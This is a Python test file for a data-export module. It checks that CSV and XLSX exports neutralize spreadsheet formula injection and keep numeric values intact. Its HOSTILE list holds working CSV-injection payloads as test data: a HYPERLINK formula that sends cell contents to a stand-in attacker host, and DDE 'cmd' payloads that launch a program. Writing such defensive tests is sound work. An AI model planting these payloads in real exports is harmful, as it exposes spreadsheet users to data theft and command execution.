"""CSV and Excel exports neutralize formula injection; numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import _strategies as fz
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vcflows.exports import neutralize_formulas, write_table

#: Strings a spreadsheet would evaluate (OWASP CSV injection: = + - @ tab CR first).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["Acme AI", "1.2M", "a=b", "", "'already quoted"]


def _frame() -> pd.DataFrame:
    n = len(HOSTILE) + len(SAFE)
    return pd.DataFrame(
        {
            "text": HOSTILE + SAFE,
            "amount": [-5.0, -2.5, 0.0, 3.0, -1e6, 7.0, -0.5, 1.0, 2.0, 3.0, 4.0, 5.0][:n],
            "count": list(range(-3, n - 3)),
            "mixed": [-5, "=x", -1.5, "+y", None, 3, "ok", "@z", 2, "-3+1", -7, "b"][:n],
        }
    )


def _expected_text(value: str) -> str:
    # Independent of the implementation: the OWASP rule written out, then line breaks as "\n".
    quoted = "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
    return quoted.replace("\r\n", "\n").replace("\r", "\n")


def test_neutralize_formulas_quotes_strings_only() -> None:
    df = _frame()
    out = neutralize_formulas(df)
    assert out["text"].tolist() == [_expected_text(v) for v in HOSTILE + SAFE]
    # Numbers, negative ones included, are untouched and keep their dtype.
    pd.testing.assert_series_equal(out["amount"], df["amount"])
    pd.testing.assert_series_equal(out["count"], df["count"])
    assert out["mixed"].tolist()[:4] == [-5, "'=x", -1.5, "'+y"]
    assert df["text"].tolist() == HOSTILE + SAFE  # the input frame is not modified


def test_csv_export_is_neutralized_and_keeps_numbers(tmp_path: Path) -> None:
    path = write_table(_frame(), tmp_path / "t.csv", "csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert header == ["text", "amount", "count", "mixed"]
    texts = [r[0] for r in body]
    assert texts == [_expected_text(v) for v in HOSTILE + SAFE]
    assert not any(t[:1] in ("=", "+", "-", "@", "\t", "\r") for t in texts)
    # Negative numbers are written as plain numbers, unquoted.
    assert [float(r[1]) for r in body] == _frame()["amount"].tolist()
    assert [int(r[2]) for r in body] == _frame()["count"].tolist()
    assert body[0][3] == "-5" and body[2][3] == "-1.5"


def test_xlsx_export_has_no_formula_cells_and_numeric_numbers(tmp_path: Path) -> None:
    df = _frame()
    path = write_table(df, tmp_path / "t.xlsx", "xlsx")
    ws = openpyxl.load_workbook(path).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [ws.cell(row=i + 2, column=1).value for i in range(len(df))]
    assert texts == [_expected_text(v) or None for v in HOSTILE + SAFE]
    amounts = [ws.cell(row=i + 2, column=2).value for i in range(len(df))]
    assert amounts == df["amount"].tolist()
    assert all(ws.cell(row=i + 2, column=2).data_type == "n" for i in range(len(df)))
    assert ws.cell(row=2, column=4).value == -5 and ws.cell(row=2, column=4).data_type == "n"
    assert ws.cell(row=3, column=4).value == "'=x"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_header_cells_are_neutralized(tmp_path: Path, fmt: str) -> None:
    # Column names may come from data (pivoted categories, countries): the header row is
    # made of cells too.
    df = pd.DataFrame({'=HYPERLINK("http://x")': ["a"], "-1+1": [-1.0], "name": ["b"]})
    path = write_table(df, tmp_path / f"t.{fmt}", fmt)
    if fmt == "csv":
        with open(path, newline="", encoding="utf-8") as fh:
            header = next(csv.reader(fh))
    else:
        ws = openpyxl.load_workbook(path).active
        assert ws is not None
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
        header = [c.value for c in ws[1]]
    assert header == ['\'=HYPERLINK("http://x")', "'-1+1", "name"]


def test_carriage_return_cannot_smuggle_a_cell(tmp_path: Path) -> None:
    # A bare "\r" left unquoted would end the row in a spreadsheet, and the rest of the cell
    # would become a new cell starting with "=".
    df = pd.DataFrame({"name": ['ok\r=HYPERLINK("http://x")', "b"], "n": [-1, 2]})
    path = write_table(df, tmp_path / "t.csv", "csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["name", "n"], ['ok\n=HYPERLINK("http://x")', "-1"], ["b", "2"]]


@fz.budget(100)
@given(
    texts=st.lists(fz.free_text, min_size=1, max_size=8),
    numbers=st.lists(
        st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1, max_size=8
    ),
)
def test_exported_csv_keeps_its_shape_and_starts_no_formula(
    texts: list[str], numbers: list[float], tmp_path: Path
) -> None:
    n = min(len(texts), len(numbers))
    df = pd.DataFrame({"t": texts[:n], "x": numbers[:n]})
    path = write_table(df, tmp_path / "t.csv", "csv")
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    # One header and n rows of two cells: no cell content broke out of its cell.
    assert len(rows) == n + 1 and all(len(r) == 2 for r in rows)
    assert [r[0] for r in rows[1:]] == [_expected_text(v) for v in texts[:n]]
    assert not any(r[0].startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows[1:])
    assert [float(r[1]) for r in rows[1:]] == pytest.approx(df["x"].tolist(), rel=1e-6)
